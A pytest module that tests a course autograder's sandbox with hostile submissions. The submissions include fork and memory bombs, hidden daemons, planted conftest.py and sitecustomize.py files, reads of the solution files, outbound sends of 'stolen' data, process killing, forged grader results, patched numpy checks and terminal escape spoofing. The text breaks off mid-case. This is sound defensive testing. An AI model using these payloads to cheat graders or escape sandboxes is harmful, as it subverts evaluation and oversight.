"""Hostile and broken 01_perceptron submissions against the real command line.

Each case is one submission (a correct compact solution, ``BASE``, plus a hostile cell, or a
file written whole) graded by ``python -m autograder grade --json`` with short limits. Every
case asserts the exact outcome: which questions score, the message, and that the grader
exited 0 with one JSON object on stdout. ``run_case`` also checks, for every case, that no
process the submission started outlives the grading (each case has its own marker, which the
submission puts in its processes' command lines) and that the grader did not crash.

The cases are graded in parallel (``WORKERS`` command lines at a time), slowest first, by a
module fixture that grades only the cases pytest selected; each test then checks its case.
"""

import json
import os
import socket
import subprocess
import sys
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from conftest import FAKE_AGENT, cli

REPO = Path(__file__).resolve().parent.parent
WORKERS = 3
LIMITS = ("--call-timeout", "2", "--load-timeout", "10", "--memory-mb", "1024")
SITE_PACKAGES = Path(__import__("numpy").__file__).parent.parent

BASE = """\
# %%
import numpy as np


def step(z):
    z = np.asarray(z, dtype=np.float64)
    return np.where(z >= 0, 1.0, 0.0)


def perceptron_output(x, w, b):
    x, w = np.asarray(x, dtype=np.float64), np.asarray(w, dtype=np.float64)
    return np.where(x @ w + b >= 0, 1.0, 0.0)


def perceptron_update(x, y, w, b, lr=1.0):
    x, w = np.asarray(x, dtype=np.float64), np.asarray(w, dtype=np.float64)
    error = float(y - perceptron_output(x, w, b))
    return w + lr * error * x, float(b + lr * error)


def train_perceptron(X, y, lr=1.0, max_epochs=100):
    X, y = np.asarray(X, dtype=np.float64), np.asarray(y, dtype=np.float64)
    w, b, mistakes = np.zeros(X.shape[1]), 0.0, []
    for _ in range(max_epochs):
        count = 0
        for x_i, y_i in zip(X, y):
            if y_i - perceptron_output(x_i, w, b) != 0:
                count += 1
            w, b = perceptron_update(x_i, y_i, w, b, lr)
        mistakes.append(count)
        if count == 0:
            break
    return w, b, mistakes


def accuracy(y_true, y_pred):
    return float(np.mean(np.asarray(y_true) == np.asarray(y_pred)))

"""

FORGED = '{"score": 999.0, "max_score": 24.0, "output": "FORGED", "tests": []}'


# ---- running a case ------------------------------------------------------------------------


@dataclass
class Case:
    name: str
    source: object  # str, or bytes written as is
    check: object  # check(result)
    suffix: str = ".py"
    args: tuple = ()
    prepare: object = None  # prepare(context) before grading; context is a dict
    slow: bool = False  # graded first
    needs: str = ""  # "namespaces": what Linux must allow for this case's assertions
    filename: str = ""  # the file's name, if not the case's name and suffix


@dataclass
class Result:
    case: Case
    proc: subprocess.CompletedProcess
    seconds: float
    context: dict = field(default_factory=dict)

    @property
    def json(self):
        return json.loads(self.proc.stdout)

    @property
    def output(self):
        return self.json["output"]

    def tests(self, function=None):
        return [
            t
            for t in self.json["tests"]
            if function is None or t["name"].startswith(function + ":")
        ]

    def score(self, function=None):
        return sum(t["score"] for t in self.tests(function))

    def full(self, function=None):
        return sum(t["max_score"] for t in self.tests(function))

    def messages(self, function=None):
        return [t["output"] for t in self.tests(function) if t["score"] < t["max_score"]]


FUNCTIONS = ("step", "perceptron_output", "perceptron_update", "train_perceptron", "accuracy")
CASES = {}


def case(name, source, **options):
    def register(check):
        CASES[name] = Case(name, source, check, **options)
        return check

    return register


def marked_processes(marker):
    """Pids of live processes whose command line holds ``marker``."""
    found = []
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if marker.encode() in f.read():
                    found.append(int(pid))
        except OSError:
            pass
    return found


def run_case(case_, folder):
    marker = f"advmark{uuid.uuid4().hex}"
    context = {"marker": marker, "folder": folder}
    if case_.prepare:
        case_.prepare(context)
    source = case_.source
    if isinstance(source, str):
        for key, value in {
            "__MARKER__": marker,
            "__REPO__": str(REPO),
            "__SITE__": str(SITE_PACKAGES),
            "__FOLDER__": str(folder),
            "__PORT__": str(context.get("port", 0)),
            "__FORGED__": FORGED,
        }.items():
            source = source.replace(key, value)
        source = source.encode()
    path = folder / (case_.filename or f"{case_.name}{case_.suffix}")
    path.write_bytes(source)
    context["path"] = path
    start = time.monotonic()
    proc = cli(
        "grade", path, "--assignment", "01_perceptron", "--json", *LIMITS, *case_.args, timeout=240
    )  # from this pool's threads: cli passes its own environment
    result = Result(case_, proc, time.monotonic() - start, context)
    time.sleep(0.2)
    result.context["left_over"] = marked_processes(marker)
    return result


@pytest.fixture(scope="module")
def graded(request, tmp_path_factory):
    """{case name: future Result} for the selected cases, graded in parallel."""
    names = [
        item.callspec.params["name"]
        for item in request.session.items
        if item.module.__name__ == __name__
        and hasattr(item, "callspec")
        and "name" in item.callspec.params
    ]
    names.sort(key=lambda n: not CASES[n].slow)
    folder = tmp_path_factory.mktemp("adversarial")
    pool = ThreadPoolExecutor(max_workers=WORKERS)
    futures = {n: pool.submit(run_case, CASES[n], folder) for n in names}
    yield futures
    pool.shutdown(wait=True, cancel_futures=True)


@pytest.fixture(scope="module")
def isolation():
    """What the sandbox achieves on this machine (see autograder/inside/launcher/jail.py): its
    mode, cgroups."""
    from autograder.grade.student import RemoteStudent

    student = RemoteStudent(["x = 1"])
    try:
        assert student.ensure_loaded() is None
        return dict(student._worker.info)
    finally:
        student.close()


def only_lost(result, lost, message=None, partly=()):
    """Every test of the functions in ``lost`` scores 0 (with ``message``), those in ``partly``
    lose points, all others score full marks."""
    for function in FUNCTIONS:
        if function in partly:
            assert result.score(function) < result.full(function), result.tests(function)
        elif function in lost:
            assert result.score(function) == 0, (function, result.tests(function))
            if message:
                for text in result.messages(function):
                    assert message in text, (function, text)
        else:
            assert result.score(function) == result.full(function) > 0, (
                function,
                result.messages(function),
            )


def scores_nothing(result, message=None):
    assert result.score() == 0, result.json
    if message:
        for test in result.tests():
            assert message in test["output"], test


def stubs(names=FUNCTIONS):
    return "".join(f"def {n}(*args, **kwargs):\n    raise NotImplementedError\n\n" for n in names)


def replace(function, body):
    """A cell that redefines one of BASE's functions (``body`` is its indented body)."""
    signature = {
        "step": "z",
        "perceptron_output": "x, w, b",
        "perceptron_update": "x, y, w, b, lr=1.0",
        "train_perceptron": "X, y, lr=1.0, max_epochs=100",
        "accuracy": "y_true, y_pred",
    }[function]
    return f"\n# %%\ndef {function}({signature}):\n{body}\n"


# a cell giving the submission BASE's functions in a namespace of their own, as _base
BASE_COPY = f"\n# %%\n_base = {{}}\nexec({BASE!r}, _base)\n"


# ---- leaving early: exits and BaseExceptions ------------------------------------------------


@case(
    "sys_exit_and_input_in_cells",
    "# %%\nimport sys\nsys.exit(3)\n\n# %%\nname = input('your name? ')\n\n" + BASE,
)
def _(result):
    only_lost(result, ())  # as in a notebook: a cell's error does not stop the next cells
    assert (
        'Cell 1 (which starts "import sys") of your submission raised SystemExit: 3'
        in result.output
    )
    assert (
        "Cell 2 (which starts \"name = input('your name? ')\") of your submission raised "
        "EOFError" in result.output
    )


@case("os_exit_at_import", BASE + "\n# %%\nimport os\nos._exit(0)\n")
def _(result):
    scores_nothing(result, "exited with status 0")
    assert "could not be loaded" in result.output


@case(
    "atexit_handlers",
    BASE
    + """
# %%
import atexit, os, signal, time
atexit.register(lambda: time.sleep(3600))
atexit.register(lambda: os.kill(os.getppid(), signal.SIGKILL))
atexit.register(lambda: print('__FORGED__'))
""",
)
def _(result):
    only_lost(result, ())
    assert result.seconds < 60


@case(
    "base_exceptions",
    BASE
    + """
# %%
class Sneaky(GeneratorExit):
    pass

raise KeyboardInterrupt("at import")
"""
    + replace("step", "    raise KeyboardInterrupt('stop')")
    + replace("perceptron_update", "    raise SystemExit(0)")
    + replace("accuracy", "    raise Sneaky('bye')")
    + replace("train_perceptron", "    raise BaseException('base')")
    + replace("perceptron_output", "    return perceptron_output(x, w, b)"),
)
def _(result):
    only_lost(result, FUNCTIONS)
    assert (
        "raised RecursionError: maximum recursion depth" in result.messages("perceptron_output")[0]
    )
    assert "raised KeyboardInterrupt: stop" in result.messages("step")[0]
    assert "raised SystemExit: 0" in result.messages("perceptron_update")[0]
    assert "raised Sneaky: bye" in result.messages("accuracy")[0]
    assert "raised BaseException: base" in result.messages("train_perceptron")[0]
    assert "raised KeyboardInterrupt: at import" in result.output


@case(
    "exception_that_fights_back",
    BASE
    + replace(
        "accuracy",
        """\
    class Evil(Exception):
        def __str__(self):
            raise RuntimeError("no message for you")
        def __getattribute__(self, name):
            raise RuntimeError(name)
    raise Evil()""",
    ),
)
def _(result):
    only_lost(result, ("accuracy",), "raised Evil: (the exception's message could not be read)")


# ---- crashes ---------------------------------------------------------------------------------


@case(
    "crashes_in_functions",
    BASE
    + replace("accuracy", "    import ctypes\n    return ctypes.string_at(0)")
    + replace("step", "    import os, signal\n    os.kill(os.getpid(), signal.SIGKILL)"),
)
def _(result):
    only_lost(result, ("step", "accuracy"))
    assert "crashed with a segmentation fault" in result.messages("accuracy")[0]
    assert "was killed" in result.messages("step")[0]


@case("segfault_at_import", "import ctypes\nctypes.string_at(0)\n" + BASE)
def _(result):
    scores_nothing(result, "crashed with a segmentation fault")


# ---- hanging -----------------------------------------------------------------------------------


@case(
    "infinite_loop_in_train_perceptron",
    BASE + replace("train_perceptron", "    while True:\n        pass"),
    args=("--call-timeout", "1"),
    slow=True,
)
def _(result):
    only_lost(result, ("train_perceptron",), "still running after 1 s")


@case(
    "infinite_loop_at_top_level",
    BASE + "\n# %%\nwhile True:\n    pass\n",
    args=("--load-timeout", "3"),
    slow=True,
)
def _(result):
    scores_nothing(result, "still running after 3 s")
    assert result.seconds < 60


@case(
    "sleeps_forever_in_accuracy",
    BASE + replace("accuracy", "    import time\n    time.sleep(10**6)"),
    slow=True,
)
def _(result):
    only_lost(result, ("accuracy",), "still running after 2 s")


# ---- resource limits --------------------------------------------------------------------------


@case(
    "memory_and_file_bombs_in_functions",
    BASE
    + replace("accuracy", "    return bytearray(3 * 2**30)")
    + replace(
        "step",
        """\
    with open("big.bin", "wb") as f:
        for _ in range(64):
            f.write(bytes(2**20))""",
    ),
    args=("--file-size-mb", "8"),
)
def _(result):
    only_lost(result, ("step", "accuracy"))
    assert "used more than 1024 MB of memory" in result.messages("accuracy")[0]
    for message in result.messages("step"):
        assert "wrote a file larger than 8 MB" in message


@case(
    "memory_and_disk_bombs_at_import",
    "# %%\nimport numpy as np\nbig = np.ones(300_000_000)\n\n"
    "# %%\nfor number in range(40):\n    with open(f'fill{number}', 'wb') as f:\n"
    "        f.write(bytes(4 * 2**20))\n\n" + BASE,
    args=("--file-size-mb", "8"),
)
def _(result):
    only_lost(result, ())
    assert (
        'Cell 1 (which starts "import numpy as np") of your submission used more than '
        "1024 MB of memory"
    ) in result.output
    assert (
        'Cell 2 (which starts "for number in range(40):") of your submission wrote more '
        "than the 64 MB of files it may write"
        in result.output
        or "isolation '" in result.proc.stderr
    )  # no tmpfs scratch


@case(
    "burns_cpu_time",
    BASE + replace("accuracy", "    while True:\n        pass"),
    args=("--cpu-seconds", "2", "--call-timeout", "30"),
    slow=True,
)
def _(result):
    only_lost(result, ("accuracy",), "used more than 2 s of CPU time")


@case(
    "memory_spread_over_processes",
    BASE
    + replace(
        "accuracy",
        """\
    import os
    children = []
    for _ in range(6):
        pid = os.fork()
        if pid == 0:
            hoard = bytearray(400 * 2**20)  # 2.4 GB together: more than the 1024 MB allowed
            os._exit(0)
        children.append(pid)
    ended = [os.waitpid(pid, 0)[1] for pid in children]
    return float(np.mean(np.asarray(y_true) == np.asarray(y_pred))) if not any(ended) else -1.0""",
    ),
    args=("--processes", "16", "--call-timeout", "20"),
    needs="cgroups",
    slow=True,
)
def _(result):
    only_lost(result, ("accuracy",))  # some child (or the worker itself) met the OOM killer
    message = result.messages("accuracy")[0]
    assert "got -1.0" in message or "out of memory: it may use 1024 MB" in message, message


@case(
    "fork_bomb_at_import",
    """\
# %%
import os
for _ in range(12):
    os.fork()

"""
    + BASE,
    args=("--processes", "32"),
)
def _(result):
    only_lost(result, ())  # the forked copies end with their cell, never answer the grader


@case(
    "many_processes_in_a_function",
    BASE
    + replace(
        "accuracy",
        """\
    import subprocess, sys
    while True:
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "__MARKER__"])""",
    ),
    args=("--processes", "24"),
    slow=True,
)
def _(result):
    only_lost(result, ("accuracy",), "tried to run more than 24 processes or threads")


@case(
    "daemons_that_hide",
    BASE
    + """
# %%
import os, subprocess, sys
SLEEPER = [sys.executable, "-c", "import time; time.sleep(600)", "__MARKER__"]
subprocess.Popen(SLEEPER, start_new_session=True)  # a session of its own
if os.fork() == 0:  # a classic double-forked daemon
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, SLEEPER)
    os._exit(0)
os.wait()
"""
    + replace(
        "accuracy",
        """\
    import os, subprocess, sys
    subprocess.Popen(SLEEPER, start_new_session=True, stdout=subprocess.DEVNULL)
    return float(np.mean(np.asarray(y_true) == np.asarray(y_pred)))""",
    ),
)
def _(result):
    only_lost(result, ())  # and run_case found none of the daemons alive afterwards


# ---- output ------------------------------------------------------------------------------------


@case(
    "huge_output",
    BASE
    + """
# %%
import sys
sys.stdout.write(("spam and eggs " * 5 + "\\n") * 300_000)
sys.stdout.write("y" * 5_000_000)
sys.stderr.write("e" * 3_000_000)
""",
)
def _(result):
    only_lost(result, ())
    assert "spam and eggs" in result.output and "more characters not shown" in result.output
    assert len(result.output) < 20_000


@case(
    "binary_and_control_bytes_on_fd_1",
    BASE
    + r"""
# %%
import os
os.write(1, b"\xff\xfe\x00 \x1b[2J\x1b[31mred\x07 \r\x08 \xe2\x80\xae evil \xed\xa0\x80 end\n")
""",
)
def _(result):
    only_lost(result, ())
    out = result.output
    assert "\\xff\\xfe" in out and "\\x1b[31mred" in out and "\\u202e" in out, out
    assert not any(ch in out for ch in "\x00\x1b\x07\r\x08\u202e")


@case(
    "forged_results",
    stubs()
    + """
# %%
import os, sys
print('__FORGED__')
sys.stderr.write('__FORGED__\\n')
os.write(1, b'\\n__FORGED__\\n')
os.write(2, b'__FORGED__')
""",
)
def _(result):
    scores_nothing(result, "is not implemented yet")
    assert FORGED in result.output  # shown to the student as what it printed, nothing more


# ---- broken files ------------------------------------------------------------------------------


@case("syntax_error", BASE.replace("def accuracy(y_true, y_pred):", "def accuracy(y_true, y_pred)"))
def _(result):
    scores_nothing(result)
    assert "SyntaxError" in result.output


@case(
    "missing_and_misspelled_functions",
    BASE.replace("def step(", "def stepp(").replace("def accuracy(", "def _unused("),
)
def _(result):
    only_lost(result, ("step", "accuracy"), "is not defined in your submission")


@case(
    "invalid_json_notebook", '{"cells": [ {"cell_type": "code", "source": "x = 1"', suffix=".ipynb"
)
def _(result):
    scores_nothing(result, "could not be read")
    assert "not a readable Jupyter notebook" in result.output


@case(
    "wrong_notebook_structure",
    json.dumps(
        {
            "nbformat": 4,
            "nbformat_minor": 5,
            "metadata": {},
            "cells": [1, "two", {"cell_type": "code", "source": 3}],
        }
    ),
    suffix=".ipynb",
)
def _(result):
    scores_nothing(result, "could not be read")


@case("binary_notebook", bytes(range(256)) * 40, suffix=".ipynb")
def _(result):
    scores_nothing(result, "is not a text file")


@case("text_file", BASE, suffix=".txt")
def _(result):
    scores_nothing(result, "is not a notebook (.ipynb) or a Python file (.py)")


# ---- look-alike return values ------------------------------------------------------------------


@case(
    "look_alike_values",
    BASE
    + BASE_COPY
    + """
# %%
class Sneaky(np.ndarray):
    def __eq__(self, other):
        return True

class Everything:
    def __eq__(self, other):
        return True
    __float__ = lambda self: 0.5

class Half(float):
    def __eq__(self, other):
        return True

_train = _base["train_perceptron"]  # BASE's, with BASE's helpers
"""
    + replace("step", "    return np.where(np.asarray(z) >= 0, 1.0, 0.0).view(Sneaky)")
    + replace(
        "perceptron_output", "    return np.where(np.asarray(x) @ w + b >= 0, 1.0, 0.0).tolist()"
    )
    + replace("perceptron_update", "    return Everything(), Everything()")
    + replace(
        "train_perceptron",
        "    w, b, m = _train(X, y, lr, max_epochs)\n    return w.astype(np.float32), b, m",
    )
    + replace("accuracy", "    return Half(0.25)"),
)
def _(result):
    only_lost(result, FUNCTIONS, partly=("train_perceptron",))
    assert "got a __main__.Sneaky object" in result.messages("step")[0]
    assert "got a list" in result.messages("perceptron_output")[0]
    assert any(
        "got a __main__.Everything object" in m for m in result.messages("perceptron_update")
    )
    assert "expected a float, got a __main__.Half object" in result.messages("accuracy")[0]
    for message in result.messages("train_perceptron"):
        assert "expected dtype float64, got float32" in message


@case(
    "tensor_and_container_subclasses",
    BASE
    + BASE_COPY
    + """
# %%
import torch  # banned in 01: this cell fails, and so does the step that uses torch

class MyTensor(torch.Tensor):
    pass

# %%
class Pair(tuple):
    pass

class Tally(list):
    def __eq__(self, other):
        return True

_train = _base["train_perceptron"]  # BASE's, with BASE's helpers
"""
    + replace(
        "step",
        "    return torch.as_tensor(np.where(np.asarray(z) >= 0, 1.0, 0.0)).as_subclass(MyTensor)",
    )
    + replace("perceptron_update", "    return Pair((np.asarray(w, dtype=float), float(b)))")
    + replace(
        "train_perceptron", "    w, b, m = _train(X, y, lr, max_epochs)\n    return w, b, Tally(m)"
    ),
    args=("--memory-mb", "4096"),
)
def _(result):
    only_lost(result, ("step", "perceptron_update"), partly=("train_perceptron",))
    assert "torch may not be used in 01_perceptron" in result.messages("step")[0]
    assert (
        "expected a pair (w, b), got a __main__.Pair object"
        in result.messages("perceptron_update")[0]
    )
    assert "mistakes should be a list of Python ints" in result.messages("train_perceptron")[0]


@case(
    "huge_and_deep_returns",
    BASE
    + replace("step", "    return np.zeros(10_000_000)")
    + replace(
        "accuracy",
        """\
    deep = []
    for _ in range(100_000):
        deep = [deep]
    loop = {}
    loop["again"] = loop
    return deep if len(y_true) > 2 else loop""",
    ),
    # encoding 10 million numbers is honest work that a loaded machine does slowly: the
    # call timeout is far above it, so only the size limit can decide this case
    args=("--call-timeout", "120"),
)
def _(result):
    only_lost(result, ("step", "accuracy"))
    assert "the grader accepts at most 64 MB" in result.messages("step")[0]
    assert "nested too deeply" in result.messages("accuracy")[0]


# ---- cheating by patching ----------------------------------------------------------------------


@case(
    "patches_numpy_pytest_and_builtins",
    """\
import builtins, sys, types
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
fake = types.ModuleType("pytest")
fake.approx = lambda expected, *a, **k: types.SimpleNamespace(__eq__=lambda self, o: True)
sys.modules["pytest"] = fake
builtins.isinstance = lambda obj, kind: True
builtins.AssertionError = type("AssertionError", (Exception,), {})


def step(z):
    return np.zeros(np.shape(z)) - 7


def perceptron_output(x, w, b):
    return np.full(np.shape(x)[:-1], 0.5)


def perceptron_update(x, y, w, b, lr=1.0):
    return np.asarray(w, dtype=float) + 1, b - 1.0


def train_perceptron(X, y, lr=1.0, max_epochs=100):
    return np.zeros(np.shape(X)[1]), 0.0, [0]


def accuracy(y_true, y_pred):
    return 2.0
""",
)
def _(result):
    scores_nothing(result)


@case(
    "answers_out_of_turn",
    BASE
    + replace(
        "accuracy",
        """\
    import json, os, socket, stat, struct
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                sock = socket.socket(fileno=os.dup(fd))
                for _ in range(3):
                    body = json.dumps({"d": [["value", {"f": "1.0"}], ["seq", 9999]]}).encode()
                    sock.sendall(struct.pack(">I", len(body)) + body)
        except OSError:
            pass
    return 0.5""",
    ),
)
def _(result):
    only_lost(result, ("accuracy",), "broke the protocol")


# ---- escaping the sandbox ----------------------------------------------------------------------


@case(
    "plants_files_for_the_test_runner",
    BASE
    + """
# %%
import os
print("cwd:", os.getcwd())
PLANTS = ["conftest.py", "sitecustomize.py", "usercustomize.py", "pytest.ini", "evil.pth",
          "__REPO__/conftest.py", "__REPO__/pytest.ini", "__REPO__/sitecustomize.py",
          "__REPO__/autograder/suites/conftest.py", "__REPO__/__MARKER__.txt",
          "__SITE__/__MARKER__.pth", "__SITE__/sitecustomize.py",
          "/tmp/__MARKER__.txt", "__FOLDER__/__MARKER__.txt"]
for target in PLANTS:
    try:
        with open(target, "w") as f:
            f.write("import os; os._exit(0)\\n" if target.endswith((".py", ".pth"))
                    else "[pytest]\\naddopts = -p no:python\\n")
        print("planted", target)
    except OSError as exc:
        print("refused", target, type(exc).__name__)
""",
    needs="namespaces",
)
def _(result):
    only_lost(result, ())
    marker = result.context["marker"]
    for path in (
        REPO / "conftest.py",
        REPO / "pytest.ini",
        REPO / "sitecustomize.py",
        REPO / f"{marker}.txt",
        SITE_PACKAGES / f"{marker}.pth",
        SITE_PACKAGES / "sitecustomize.py",
        Path(f"/tmp/{marker}.txt"),
        result.context["folder"] / f"{marker}.txt",
    ):
        assert not path.exists(), path
    suites_conftest = REPO / "autograder" / "suites" / "conftest.py"
    assert not suites_conftest.exists()
    for line in result.output.splitlines():
        if line.startswith("cwd: "):
            assert not os.path.exists(line[5:]), "the scratch directory was not removed"
            break
    else:
        raise AssertionError("the submission's output is missing")
    assert f"refused {REPO}/autograder/suites/conftest.py" in result.output
    assert "planted " + str(REPO) not in result.output


@case(
    "reads_the_course_from_disk",
    stubs()
    + """
# %%
import os
for path in ["__REPO__/solutions/01_perceptron.py",
             "__REPO__/autograder/suites/test_01_perceptron.py",
             "__FOLDER__/victim.py"]:
    try:
        exec(open(path).read())
        print("read", path)
    except OSError as exc:
        print("cannot read", path, type(exc).__name__)
try:
    print("repository:", os.listdir("__REPO__"))
except OSError as exc:
    print("cannot list the repository", type(exc).__name__)
""",
    prepare=lambda ctx: (ctx["folder"] / "victim.py").write_text(BASE),
    needs="namespaces",
)
def _(result):
    scores_nothing(result, "is not implemented yet")
    assert f"cannot read {REPO}/solutions/01_perceptron.py FileNotFoundError" in result.output
    assert "cannot read" in result.output and "victim.py FileNotFoundError" in result.output
    assert "read " + str(REPO) not in result.output.replace("cannot read", "")


def _listen(ctx):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.setblocking(False)
    ctx["server"], ctx["port"] = server, server.getsockname()[1]


@case(
    "talks_to_the_network",
    BASE
    + """
# %%
import socket
for address in [("127.0.0.1", __PORT__), ("8.8.8.8", 53)]:
    try:
        socket.create_connection(address, timeout=1).sendall(b"stolen")
        print("connected to", address)
    except OSError as exc:
        print("no connection to", address, type(exc).__name__)
""",
    prepare=_listen,
    needs="namespaces",
)
def _(result):
    server = result.context["server"]
    try:
        with pytest.raises(BlockingIOError):
            server.accept()
    finally:
        server.close()
    only_lost(result, ())
    assert f"no connection to ('127.0.0.1', {result.context['port']})" in result.output


@case(
    "signals_the_grader",
    BASE
    + """
# %%
import os, signal
for pid in {os.getppid(), 1}:
    try:
        os.kill(pid, signal.SIGKILL)
        print("killed", pid)
    except OSError as exc:
        print("could not kill", pid, type(exc).__name__)
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass
"""
    + replace(
        "accuracy",
        """\
    import os, signal
    try:
        os.kill(os.getppid(), signal.SIGTERM)
    except OSError:
        pass
    return float(np.mean(np.asarray(y_true) == np.asarray(y_pred)))""",
    ),
    needs="namespaces",
)
def _(result):
    only_lost(result, ())
    assert "could not kill" in result.output and "killed 1" not in result.output


# ---- the bundled hostile example -------------------------------------------------------------


@case(
    "hostile_example", (REPO / "examples" / "01_perceptron" / "hostile.py").read_text(), slow=True
)
def _(result):
    assert result.score() <= 6, result.json
    xor = [t for t in result.tests("train_perceptron") if "XOR" in t["name"]]
    assert xor and "still running after 2 s" in xor[0]["output"]
    assert result.score("accuracy") == 0 and result.score("perceptron_update") == 0
    assert "found 0 files of the course" in result.output
    assert '"output": "all tests passed"' in result.output  # its forgery, shown as output


# ---- trust: what the worker says about itself is not believed -------------------------------

# The honest part: step and perceptron_output work, the rest are stubs.
HONEST_PART = BASE.split("def perceptron_update")[0] + stubs(FUNCTIONS[2:])

# A full takeover: a cell that never returns speaks the channel's protocol on the worker's
# socket with an agent of its own. It answers the honest functions with their real values
# and everything else with forgeries: the arguments "left unmodified", plausible values, and
# probe results made up.
TAKEOVER = (
    HONEST_PART
    + r"""
# %%
import numpy as np

def _forge(request, ns):
    if request.get("op") == "call" and request.get("name") in ("step", "perceptron_output"):
        value = ns[request["name"]](*request["args"], **request["kwargs"])
    elif request.get("op") == "call":
        first = request["args"][0] if request["args"] else 0.0
        value = np.zeros(np.shape(first)) if isinstance(first, np.ndarray) else 0.5
        if request["name"] == "perceptron_update":
            value = (np.zeros(np.shape(request["args"][0])), 0.0)
        if request["name"] == "train_perceptron":
            value = (np.zeros(np.shape(request["args"][0])[1:]), 0.0, [0])
    else:
        value = None
    reply = {"value": value}
    if request.get("inputs"):
        reply["inputs"] = [request.get("args", []), request.get("kwargs", {})]
    return reply

_answer = lambda request: _forge(request, globals())
"""
    + FAKE_AGENT
)


def grade_json_of(source, name):
    """Grade ``source`` through the command line, with this module's limits."""
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"{name}.py"
        path.write_text(source, encoding="utf-8")
        proc = cli("grade", path, "--assignment", "01_perceptron", "--json", *LIMITS, timeout=240)
    assert proc.returncode == 0, proc.stderr[-2000:]
    return json.loads(proc.stdout)


@case("full_takeover_of_the_worker", TAKEOVER)
def _(result):
    honest = grade_json_of(HONEST_PART, "honest_part")
    passed = {t["name"] for t in result.tests() if t["score"] == t["max_score"] > 0}
    honest_passed = {t["name"] for t in honest["tests"] if t["score"] == t["max_score"] > 0}
    assert passed <= honest_passed, sorted(passed - honest_passed)
    assert result.score() <= sum(t["score"] for t in honest["tests"]), result.json
    assert result.score("step") == result.full("step") > 0  # the honest part is still graded


CLOBBERING_STEP = BASE.replace(
    "    z = np.asarray(z, dtype=np.float64)\n    return np.where(z >= 0, 1.0, 0.0)",
    "    out = np.where(np.asarray(z, dtype=np.float64) >= 0, 1.0, 0.0)\n"
    "    if isinstance(z, np.ndarray):\n        z[...] = 7.0  # clobbers its input\n"
    "    return out",
)

FORGED_INPUTS = (
    CLOBBERING_STEP
    + """
# %%
import copy, sys
_calls = sys.modules["autograder.inside.calls"]
_real_answer = _calls.answer

def _answer(ns, request):
    saved = copy.deepcopY(request.get("args"))
    reply = _real_answer(ns, request)
    if "inputs" in reply:
        reply["inputs"] = [saved, reply["inputs"][1]]
    return reply

_calls.answer = _answer
""".replace("deepcopY", "deepcopy")
)


@case("rebinding_the_agent_to_forge_unmodified_inputs", FORGED_INPUTS)
def _(result):
    assert result.score() == 0, result.json  # every question: the grader was modified
    assert "the submission modified the grader" in result.output
    assert result.json["extra_data"]["tampered"]
    assert all("modified the grader" in m for m in result.messages()), result.messages()


@case(
    "torch_imported_by_a_computed_name",
    BASE
    + replace(
        "step",
        """\
    import importlib
    t = importlib.import_module("to" + "rch")
    return t.heaviside(t.as_tensor(np.asarray(z, dtype=float)), t.tensor(1.0)).numpy()""",
    ),
)
def _(result):
    assert result.score("step") == 0
    assert all("torch may not be used in 01_perceptron" in m for m in result.messages("step"))
    assert result.score("accuracy") == result.full("accuracy") > 0


HONEST_HABITS = (
    BASE
    + """
# %%
import collections, inspect, logging, traceback, warnings
logging.basicConfig(level=logging.INFO)
log = logging.getLogger("mine")
Point = collections.namedtuple("Point", "x y")


def _noisy(value):
    log.info("called with %s", Point(1, 2))
    warnings.warn("just a warning")
    traceback.format_stack()
    inspect.stack()
    try:
        raise ValueError("caught")
    except ValueError:
        traceback.format_exc()
    return value


_step = step


def step(z):
    return _noisy(_step(z))
"""
)


@case("honest_logging_warnings_tracebacks_are_not_tampering", HONEST_HABITS)
def _(result):
    only_lost(result, ())
    assert "extra_data" not in result.json and "modified the grader" not in result.output


@case(
    "torch_through_another_python",
    BASE
    + replace(
        "step",
        """\
    import json, subprocess, sys
    code = ("import json, sys, torch; z = torch.tensor(json.loads(sys.argv[1]), "
            "dtype=torch.float64); print(json.dumps((z >= 0).double().tolist()))")
    z = np.asarray(z, dtype=np.float64)
    out = subprocess.run([sys.executable, "-c", code, json.dumps(z.tolist())],
                         capture_output=True, text=True).stdout
    return np.array(json.loads(out), dtype=np.float64).reshape(z.shape)""",
    ),
    needs="namespaces",
)
def _(result):
    # the jail hides torch's files from every process of the worker, not only its own Python
    assert result.score("step") == 0, result.tests("step")
    assert result.score("accuracy") == result.full("accuracy") > 0


# ---- isolation modes -----------------------------------------------------------------------------


@case(
    "weaker_isolation_still_grades", BASE + "\n# %%\nprint('hello')\n", args=("--isolation", "none")
)
def _(result):
    only_lost(result, ())
    assert "isolation 'none'" in result.proc.stderr  # the note for the instructor, on stderr
    assert "hello" in result.output


# ---- text from the submission reaches the instructor and the student escaped ----------------

# Clear screen, cursor home, window title, a green fake verdict, a carriage return and bidi
# overrides (U+202E, U+2066-2069), as the submission's exception messages and type names.
HOSTILE_TEXT = (
    r"\x1b[2J\x1b[H\x1b]0;owned\x07\x1b[1;32mALL TESTS PASSED (24/24)\x1b[0m\r"
    r" \u202etxt.exe\u202c \u2066x\u2069\u200b"
)
RAW = ("\x1b", "\x07", "\r", "\u202e", "\u202c", "\u2066", "\u2069", "\u200b")


def all_text(value):
    """Every string in a JSON value, keys included."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [t for k, v in value.items() for t in [k, *all_text(v)]]
    if isinstance(value, list):
        return [t for v in value for t in all_text(v)]
    return []


def escaped_everywhere(text):
    assert not any(ch in text for ch in RAW), ascii(text[:3000])
    assert not any(ord(ch) < 32 and ch not in "\n\t" for ch in text), ascii(text[:3000])


@case(
    "escape_sequences_in_messages_and_names",
    BASE
    + f'''
# %%
TEXT = "{HOSTILE_TEXT}"
Fake = type("Fake\\x1b[2J\\u202eError", (Exception,), {{}})
raise Fake("at load: " + TEXT)
'''
